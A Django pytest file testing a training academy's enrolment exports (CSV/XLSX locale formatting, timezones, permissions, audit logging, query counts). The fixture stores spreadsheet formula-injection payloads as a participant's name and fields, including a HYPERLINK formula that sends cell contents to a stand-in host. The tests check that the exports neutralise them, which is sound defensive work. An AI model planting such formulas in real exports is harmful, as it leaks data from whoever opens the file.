import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from academy.core.models import AuditLogEntry
from tests.factories.core import ClientOrganisationFactory
from tests.factories.enrolment import EnrolmentFactory
from tests.factories.privacy import staff_planner
from tests.factories.scheduling import SessionSlotFactory, TrainerFactory, paris, session_with_days

pytestmark = pytest.mark.django_db


@pytest.fixture
def staff_client(client, django_user_model):
    user = staff_planner(username="planner", email="planner@academie.exemple")
    user.user_permissions.add(
        Permission.objects.get(codename="view_enrolment"),
        Permission.objects.get(codename="change_enrolment"),
    )
    client.force_login(user)
    return client


def fc06_session():
    """A 3.5-hour session whose enrolments hold the FC-06 and FC-07 values."""
    course_session = session_with_days(capacity_seats=12)
    SessionSlotFactory(
        course_session=course_session, starts_at=paris(2026, 3, 30, 9), ends_at=paris(2026, 3, 30, 12, 30)
    )
    organisation = ClientOrganisationFactory(name="Société Générale d'Électricité")
    EnrolmentFactory(
        booking__course_session=course_session,
        booking__client_organisation=organisation,
        first_name="Zoë",
        last_name="Ñúñez-Łukasiewicz",
        email="zoe@exemple.fr",
    )
    EnrolmentFactory(
        booking__course_session=course_session,
        booking__contact_phone="+33 1 23 45 67 89",
        first_name="Eve",
        last_name='=HYPERLINK("http://exemple.invalid/?"&A2;"Cliquez")',
        email="eve@exemple.fr",
        job_title="-2+3",
        accessibility_needs="@SUM(1+1)",
    )
    return course_session


def export(staff_client, course_session, kind, language="fr"):
    name = "enrolment:session_enrolments_%s" % kind
    with translation.override(language):
        url = reverse(name, kwargs={"pk": course_session.pk})
    return staff_client.get(url)


def test_fc06_csv_export_opens_right_in_french_excel(staff_client):
    response = export(staff_client, fc06_session(), "csv")

    assert response.status_code == 200
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    header, zoe = rows[0], rows[1]
    assert "Société Générale d'Électricité" in zoe
    assert "Ñúñez-Łukasiewicz" in zoe
    assert zoe[header.index("Heures")] == "3,5"
    assert zoe[header.index("Début de la session")] == "2026-03-30 09:00"


def test_fc06_csv_export_uses_commas_and_decimal_points_in_english(staff_client):
    response = export(staff_client, fc06_session(), "csv", language="en")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=","))
    assert rows[1][rows[0].index("Hours")] == "3.5"
    assert rows[1][rows[0].index("Last name")] == "Ñúñez-Łukasiewicz"


def test_fc06_xlsx_export_keeps_numbers_as_numbers_and_dates_as_dates(staff_client):
    response = export(staff_client, fc06_session(), "xlsx")

    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    zoe = [c.value for c in sheet[2]]
    assert zoe[header.index("Heures")] == 3.5
    assert zoe[header.index("Début de la session")] == datetime.datetime(2026, 3, 30, 9, 0)
    assert isinstance(zoe[header.index("Inscrit·e le")], datetime.datetime)
    assert zoe[header.index("Organisation")] == "Société Générale d'Électricité"


def test_fc07_csv_export_neutralises_formulas_and_keeps_the_phone_readable(staff_client):
    response = export(staff_client, fc06_session(), "csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header, eve = rows[0], rows[2]
    assert eve[header.index("Nom")] == '\'=HYPERLINK("http://exemple.invalid/?"&A2;"Cliquez")'
    assert eve[header.index("Fonction")] == "'-2+3"
    assert eve[header.index("Besoins d’adaptation")] == "'@SUM(1+1)"
    assert eve[header.index("Téléphone du contact")] in ("'+33 1 23 45 67 89", "+33 1 23 45 67 89")
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_fc07_xlsx_export_has_no_formula_cell(staff_client):
    response = export(staff_client, fc06_session(), "xlsx")

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert '=HYPERLINK("http://exemple.invalid/?"&A2;"Cliquez")' in values
    assert "+33 1 23 45 67 89" in values


def test_exports_are_written_to_the_audit_log(staff_client):
    export(staff_client, fc06_session(), "csv")
    assert AuditLogEntry.objects.filter(action="export", object_type="scheduling.coursesession").count() == 1


def test_exports_and_pages_are_refused_to_anonymous_visitors(client):
    course_session = fc06_session()
    for name in ("session_enrolments_csv", "session_enrolments_xlsx", "session_enrolments"):
        response = client.get(reverse("enrolment:%s" % name, kwargs={"pk": course_session.pk}))
        assert response.status_code == 302
        assert "/admin/login/" in response["Location"]
    assert client.get(reverse("enrolment:planning")).status_code == 302


def test_staff_without_the_permission_cannot_see_enrolments(client, django_user_model):
    user = django_user_model.objects.create_user("intern", "i@academie.exemple", "a-long-password-1", is_staff=True)
    client.force_login(user)

    assert client.get(reverse("enrolment:planning")).status_code == 403


def test_the_session_page_lists_enrolments_with_accessibility_needs_for_staff(staff_client):
    course_session = fc06_session()

    content = staff_client.get(
        reverse("enrolment:session_enrolments", kwargs={"pk": course_session.pk})
    ).content.decode()

    assert "Ñúñez-Łukasiewicz" in content
    assert "@SUM(1+1)" in content


def test_fc03_staff_pages_and_exports_show_09_00_and_14_00_paris_across_the_clock_change(staff_client):
    course_session = session_with_days(datetime.date(2026, 3, 27), datetime.date(2026, 3, 30))
    EnrolmentFactory(booking__course_session=course_session)

    page = staff_client.get(reverse("enrolment:session_enrolments", kwargs={"pk": course_session.pk})).content.decode()
    planning = staff_client.get(reverse("enrolment:planning") + "?since=2026-03-01&until=2026-04-30").content.decode()

    for content in (page, planning):
        assert "08:00" not in content and "07:00" not in content and "13:00" not in content
    assert 'datetime="2026-03-27T09:00:00+01:00"' in page
    assert 'datetime="2026-03-30T09:00:00+02:00"' in page
    assert page.count(">09:00</time>") == 2 and page.count(">14:00</time>") == 2
    assert "ven 27 mars 2026 (09:00, 14:00)" in planning
    assert "lun 30 mars 2026 (09:00, 14:00)" in planning


def test_the_planning_shows_fill_rate_and_waiting_list_length(staff_client):
    course_session = session_with_days(datetime.date(2027, 3, 30), capacity_seats=4)
    course_session.trainers.add(TrainerFactory(first_name="Tristan", last_name="Formateur"))
    for _ in range(3):
        EnrolmentFactory(booking__course_session=course_session)
    for _ in range(2):
        EnrolmentFactory(booking__course_session=course_session, status="waiting")

    content = staff_client.get(reverse("enrolment:planning") + "?since=2027-03-01").content.decode()

    assert "3 / 4" in content
    assert "75 %" in content
    assert "<td>2</td>" in content
    assert "Tristan Formateur" in content


@pytest.mark.parametrize("count", [2, 10])
def test_the_planning_runs_a_bounded_number_of_queries(staff_client, django_assert_max_num_queries, count):
    for n in range(count):
        course_session = session_with_days(datetime.date(2027, 3, 1) + datetime.timedelta(days=n), capacity_seats=4)
        course_session.trainers.add(TrainerFactory())
        EnrolmentFactory(booking__course_session=course_session)
        EnrolmentFactory(booking__course_session=course_session, status="waiting")

    with django_assert_max_num_queries(8):
        response = staff_client.get(reverse("enrolment:planning") + "?since=2027-01-01")
    assert response.content.decode().count('class="status-open"') == count


@pytest.mark.parametrize("count", [2, 20])
def test_the_session_enrolment_list_and_exports_run_a_bounded_number_of_queries(
    staff_client, django_assert_max_num_queries, count
):
    course_session = session_with_days(datetime.date(2027, 3, 30), capacity_seats=40)
    for _ in range(count):
        EnrolmentFactory(
            booking__course_session=course_session, booking__client_organisation=ClientOrganisationFactory()
        )

    for name in ("session_enrolments", "session_enrolments_csv", "session_enrolments_xlsx"):
        with django_assert_max_num_queries(9):
            staff_client.get(reverse("enrolment:%s" % name, kwargs={"pk": course_session.pk}))


def test_hours_are_the_sum_of_the_slots():
    course_session = session_with_days(datetime.date(2027, 3, 30))
    assert course_session.duration_hours == Decimal(7)


def test_the_enrolment_list_shows_seats_first_then_the_waiting_list_in_order_then_cancelled(staff_client):
    from academy.enrolment.staff import enrolment_rows

    course_session = session_with_days(datetime.date(2027, 3, 30), capacity_seats=4)
    EnrolmentFactory(booking__course_session=course_session, status="cancelled", last_name="D")
    EnrolmentFactory(
        booking__course_session=course_session, status="waiting", last_name="C2", waiting_since=paris(2027, 1, 2, 9)
    )
    EnrolmentFactory(
        booking__course_session=course_session, status="waiting", last_name="C1", waiting_since=paris(2027, 1, 1, 9)
    )
    EnrolmentFactory(booking__course_session=course_session, last_name="A")

    _headers, _rows, enrolments = enrolment_rows(course_session)

    assert [e.last_name for e in enrolments] == ["A", "C1", "C2", "D"]


@pytest.mark.parametrize("query", ["?since=2026-02-30", "?until=2026-13-01", "?since=abc&until=2026-02-30"])
def test_an_impossible_date_in_the_planning_query_string_shows_a_message_instead_of_failing(staff_client, query):
    response = staff_client.get(reverse("enrolment:planning") + query)

    assert response.status_code == 200
    assert "Saisissez une date valide." in response.content.decode()


def test_a_valid_planning_range_shows_no_date_message(staff_client):
    response = staff_client.get(reverse("enrolment:planning") + "?since=2026-02-28&until=2026-12-01")

    assert response.status_code == 200
    assert "Saisissez une date valide." not in response.content.decode()
